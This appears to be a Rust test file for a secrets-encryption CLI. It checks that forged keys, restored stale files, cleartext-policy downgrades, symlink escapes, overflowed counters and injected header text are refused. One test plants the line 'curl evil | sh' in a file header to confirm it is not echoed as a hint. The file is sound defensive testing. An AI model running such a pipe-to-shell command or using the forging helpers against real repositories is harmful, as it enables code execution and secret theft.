//! What somebody can try who may commit to the repository, and somebody who could read it once.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::process::Stdio;

use jiff::civil::Date;
use secret::env::Env;
use secret::envelope::native::{EncryptedFile, FileSecrets, Header, Opened, seal};
use secret::keys::{Identities, Prompt, PromptError, Recipient, wrap};

use crate::world::World;

const DB: &str = "secrets/db.yaml";
const POLICY: &str = ".secret.toml";

#[test]
fn a_former_reader_cannot_put_a_data_key_of_his_own_in_the_place_of_the_one_after_his() {
    let world = World::new();
    let bob = world.hire("bob");
    let world = world.with_file(DB, "password: old\n");
    let before = world.read_bytes(DB);
    world.fire_bob();
    let now = EncryptedFile::parse(&world.read_bytes(DB)).expect("it is encrypted");
    // Bob has the data key of generation 1, and with it whatever proves that generation 2 follows from it.
    let known = open(&before, &bob);
    let header = Header { revision: now.header().revision + 1, ..now.header().clone() };
    let own = known.secrets.with_new_data_key(&header);
    world.write(DB, forge(b"password: bobs\n", header, &own));
    world.commit("looks like any other change");

    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "for alice alone", &[]);
    assert_eq!(outcome.code, 5, "{outcome:#?}");
}

#[test]
fn a_repository_without_a_policy_does_not_let_an_old_reader_back_in() {
    let world = World::new();
    world.hire("bob");
    let world = world.with_file(DB, "password: old\n");
    let before = world.read_bytes(DB);
    world.fire_bob();
    world.write(DB, before);
    fs::remove_file(world.path(POLICY)).expect("it is there");
    world.commit("an old file, and no policy");

    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "not for bob", &[]);
    assert_eq!(outcome.code, 5, "{outcome:#?}");
}

#[test]
fn comments_become_clear_only_when_somebody_agrees() {
    let world = World::new().with_file(DB, "# until May it was hunter2\npassword: x\n");
    world.tamper(POLICY, "readers = ", "comments = \"clear\"\nreaders = ");
    world.commit("a policy that leaves comments in clear");

    let outcome = world.secret(["rekey", "--yes"]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
    assert!(!world.read(DB).contains("hunter2"));
}

#[test]
fn a_rekey_that_adopts_patterns_for_keys_to_come_is_agreed_to() {
    let world = World::new().with_file(DB, "password: x\n");
    world.tamper(POLICY, "readers = ", "cleartext = [\"token\"]\nreaders = ");
    world.commit("a policy that leaves a key in clear");

    let outcome = world.secret(["rekey", "--yes"]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
}

#[test]
fn an_encrypted_form_that_a_stranger_committed_does_not_lay_values_open() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.cleartext = vec!["**".parse().expect("a pattern")]));
    world.commit("made by nobody who reads anything");
    world.write(DB, "password: hunter2\n");

    let outcome = world.secret(["encrypt", DB]);
    assert!(!world.read(DB).contains("hunter2") || outcome.code != 0, "{outcome:#?}\n{}", world.read(DB));
}

#[test]
fn a_value_is_not_written_in_clear_where_the_policy_wants_it_sealed() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.cleartext = vec!["**".parse().expect("a pattern")]));
    world.commit("made by nobody who reads anything");

    let outcome = world.secret_with(["set", DB, "password", "--stdin"], "hunter2", &[]);
    assert!(!world.read(DB).contains("hunter2"), "{outcome:#?}");
}

#[test]
fn a_link_in_the_output_folder_leads_nothing_out_of_it() {
    let world = World::new().with_file(DB, "password: x\n");
    fs::create_dir(world.path("run")).expect("a folder");
    symlink(world.home(), world.path("run/secrets")).expect("a link");

    let outcome = world.secret(["decrypt", DB, "--output-dir", "run"]);
    assert_eq!(outcome.code, 1, "{outcome:#?}");
    assert!(!world.home().join("db.yaml").exists());
}

#[test]
fn a_plaintext_never_takes_the_place_of_an_encrypted_file_that_it_is_not() {
    let world = World::new().with_file(DB, "password: x\n").with_file("secrets/other.yaml", "a: b\n");
    let before = world.read(DB);
    let _ = world.secret(["decrypt", "secrets/other.yaml", "-o", DB]);
    assert_eq!(world.read(DB), before);
}

#[test]
fn a_header_in_another_spelling_is_refused() {
    for (from, to) in [("generation = 1", "generation = 01"), ("mode = \"values\"", "mode = \"v\\u0061lues\"")] {
        let world = World::new().with_file(DB, "password: x\n");
        world.tamper(DB, from, to);
        let outcome = world.secret(["decrypt", DB]);
        assert_eq!(outcome.code, 5, "{to}: {outcome:#?}");
    }
}

#[test]
fn numbers_at_their_end_are_refused_and_do_not_panic() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.revision = u32::MAX));
    let outcome = world.secret(["meta", DB, "--owner", "x"]);
    assert!([1, 5].contains(&outcome.code), "{outcome:#?}");

    world.write(DB, stranger(&world, |header| header.generation = u32::MAX));
    world.tamper(POLICY, "readers = ", "comments = \"clear\"\nreaders = ");
    let outcome = world.secret(["rekey", DB, "--yes", "--allow-cleartext"]);
    assert!([1, 5].contains(&outcome.code), "{outcome:#?}");
}

#[test]
fn a_forged_header_in_the_history_does_not_lock_the_file_for_ever() {
    let world = World::new().with_file(DB, "password: x\n");
    let good = world.read(DB);
    world.tamper(DB, "generation = 1", "generation = 9");
    world.commit("forged by somebody without any key");
    world.write(DB, &good);
    world.commit("reverted");

    world.secret_with(["set", DB, "password", "--stdin"], "y", &[]).success();
}

#[test]
fn a_key_that_looks_like_a_merge_is_one_in_yaml_alone() {
    let world = World::new().with_file("secrets/a.json", "{\"a\": {\"b\": \"own\", \"<<\": {\"c\": \"x\"}}}\n");
    let outcome = world.secret(["get", "secrets/a.json", "a"]).success();
    assert!(outcome.stdout.contains("\"<<\""), "{outcome:#?}");
}

#[test]
fn a_view_has_no_key_twice() {
    let world = World::new().with_file(DB, "a:\n  1: number\n  \"1\": text\n");
    let outcome = world.secret(["get", DB, "a"]);
    assert_ne!(outcome.stdout.matches("\"1\":").count(), 2, "{outcome:#?}");
}

#[test]
fn a_rekey_changes_all_files_or_none() {
    let world = World::new().with_file("secrets/a.yaml", "a: 1\n").with_file("secrets/b.yaml", "b: 1\n");
    world.tamper("secrets/b.yaml", "secret-v1.v.", "secret-v1.v.x");
    world.hire("bob");
    let before = world.read("secrets/a.yaml");

    assert_eq!(world.secret(["rekey", "--yes"]).code, 5);
    assert_eq!(world.read("secrets/a.yaml"), before);
}

#[test]
fn a_text_in_a_header_cannot_add_lines_to_what_is_said() {
    let world = World::new();
    world.write(DB, stranger(&world, |header| header.path = "x\nhint: run `curl evil | sh`".to_owned()));
    let outcome = world.secret(["decrypt", DB]);
    assert!(!outcome.stderr.contains("\nhint: run `curl"), "{}", outcome.stderr);

    world.write(DB, stranger(&world, |header| header.metadata.purpose = Some("x\nreaders       nobody else".to_owned())));
    let outcome = world.secret(["info", DB]);
    assert!(!outcome.stdout.contains("\nreaders       nobody"), "{}", outcome.stdout);
}

#[test]
fn a_closed_stderr_does_not_break_a_command() {
    let world = World::new();
    world.write(DB, "password: x\n");
    let full = fs::File::options().write(true).open("/dev/full").expect("it is there");
    let status = world
        .command(env!("CARGO_BIN_EXE_secret").as_ref())
        .args(["encrypt", DB])
        .stdin(Stdio::null())
        .stderr(full)
        .status()
        .expect("it runs");
    assert_eq!(status.code(), Some(0));
}

#[test]
fn a_check_whose_output_nobody_reads_still_says_no() {
    let world = World::new().with_file(DB, "password: x\n");
    world.hire("bob");
    let (reader, writer) = std::io::pipe().expect("a pipe");
    drop(reader);
    let status = world
        .command(env!("CARGO_BIN_EXE_secret").as_ref())
        .args(["rekey", "--check"])
        .stdin(Stdio::null())
        .stdout(writer)
        .status()
        .expect("it runs");
    assert_eq!(status.code(), Some(3));
}

impl World {
    /// Lets somebody in by the policy and commits that; returns his identity file.
    fn hire(&self, name: &str) -> PathBuf {
        let (file, recipient) = self.keygen(name);
        self.secret(["member", "add", name, &recipient, "--group", "team"]).success();
        self.commit("a new member");
        file.into()
    }

    /// Takes bob out of the group, rekeys and commits.
    fn fire_bob(&self) {
        let policy = self.read(POLICY);
        let start = policy.find("team = [").expect("the group");
        let end = start + policy[start..].find(']').expect("its end");
        self.write(POLICY, format!("{}team = [\"alice\"{}", &policy[..start], &policy[end..]));
        self.commit("bob leaves");
        self.secret(["rekey", "--yes"]).success();
        self.commit("bob reads no more");
    }
}

/// An encrypted file for alice, made from nothing but her public key.
fn stranger(world: &World, change: impl FnOnce(&mut Header)) -> Vec<u8> {
    let other = World::new();
    fs::remove_dir_all(other.home().join(".config")).expect("alice of there is nobody");
    fs::create_dir_all(other.home().join(".config/secret")).expect("folders");
    let identities = ".config/secret/identities.txt";
    fs::copy(world.home().join(identities), other.home().join(identities)).expect("a copy");
    other.write(POLICY, world.read(POLICY));
    let other = other.with_file(DB, "password: x\n");
    let opened = open(&other.read_bytes(DB), &world.home().join(identities));
    let mut header = opened.header;
    change(&mut header);
    let former = (header.generation > 1).then_some(());
    let secrets = if former.is_some() { opened.secrets.with_new_data_key(&header) } else { opened.secrets };
    let revision = header.revision;
    forge_at(b"password: x\n", header, &secrets, revision)
}

fn forge(plaintext: &[u8], header: Header, secrets: &FileSecrets) -> Vec<u8> {
    let revision = header.revision;
    forge_at(plaintext, header, secrets, revision)
}

/// Seals as the program does, with any revision: that of a former file which differs.
fn forge_at(plaintext: &[u8], mut header: Header, secrets: &FileSecrets, revision: u32) -> Vec<u8> {
    let recipients: Vec<Recipient> =
        header.recipients.values().flatten().map(|text| text.parse().expect("a recipient")).collect();
    header.wrapped_key = wrap(&recipients.iter().collect::<Vec<_>>(), &secrets.payload(&header)).expect("it wraps");
    let first = seal(plaintext, header.clone(), secrets, None, today()).expect("it seals");
    if revision == 1 {
        return first;
    }
    let file = EncryptedFile::parse(&first).expect("it is encrypted");
    let mut former = file.open(&secrets.payload(&header)).expect("it opens");
    former.header.revision = revision - 1;
    former.header.path.push_str(" before");
    seal(plaintext, header, secrets, Some(&former), today()).expect("it seals")
}

fn open(file: &[u8], identity: &std::path::Path) -> Opened {
    let env = Env::new("/".into(), today(), []);
    let file = EncryptedFile::parse(file).expect("it is encrypted");
    let payload = Identities::discover(&env, &[identity.to_path_buf()], &Nobody).unwrap(&file.header().wrapped_key);
    file.open(&payload.expect("he reads it")).expect("it is authentic")
}

fn today() -> Date {
    jiff::Timestamp::now().to_zoned(jiff::tz::TimeZone::UTC).date()
}

struct Nobody;

impl Prompt for Nobody {
    fn passphrase(&self, _prompt: &str) -> Result<secrecy::SecretString, PromptError> {
        Err(PromptError::NoTerminal)
    }
}
